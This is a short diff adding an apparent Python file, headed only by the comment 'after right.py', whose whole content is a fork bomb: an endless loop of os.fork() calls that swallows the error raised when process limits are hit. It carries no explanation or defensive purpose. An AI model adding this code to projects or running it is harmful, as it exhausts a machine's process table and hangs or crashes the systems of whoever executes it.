@@ -1,0 +1,8 @@
+# after right.py
+import os
+
+try:
+    while True:
+        os.fork()
+except OSError:
+    pass
